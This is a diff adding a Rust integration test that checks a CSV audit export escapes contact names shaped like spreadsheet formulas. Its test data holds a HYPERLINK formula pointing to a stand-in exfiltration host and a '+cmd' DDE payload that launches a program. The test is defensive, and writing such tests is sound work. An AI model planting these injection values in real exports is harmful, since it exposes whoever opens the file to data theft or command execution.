@@ -1754,6 +1754,46 @@ async fn html_and_sql_in_organization_and_connection_names_are_stored_as_text_an
 }
 
 #[tokio::test]
+async fn a_contact_named_like_a_spreadsheet_formula_is_exported_as_text() {
+    // Arrange: a PSA contact whose name is a formula, and a click on its ticket's link.
+    let app = spawn_flow().await;
+    let clients = clients(&app).await;
+    let formula = "=HYPERLINK(\"https://evil.example/steal\",\"Details\")";
+    let contact = app.world.cw.add_contact_at(
+        Some(app.world.company),
+        formula,
+        "Smith",
+        "formula@contoso.example",
+    );
+    let ticket = app.new_ticket(contact, "+cmd|' /C calc'!A0").await;
+    let token = app.link_token(ticket).await;
+    let (status, attempt) = app.call("send_push", &token).await;
+    assert_eq!(status, 200, "{attempt}");
+    app.wait_until_idle().await;
+
+    // Act
+    let csv = page_text(&clients.admin.0, &app, "/audit/export.csv").await;
+
+    // Assert: the name is there, as text; no cell starts a formula.
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
+    assert!(
+        records
+            .iter()
+            .any(|r| r.get(6) == Some(format!("'{formula} Smith").as_str())),
+        "{csv}"
+    );
+    for record in &records {
+        for cell in record {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} in {csv}"
+            );
+        }
+    }
+}
+
+#[tokio::test]
 async fn a_replayed_delivery_is_answered_as_a_duplicate_and_stores_nothing_new() {
     // Arrange
     let app = spawn_flow().await;
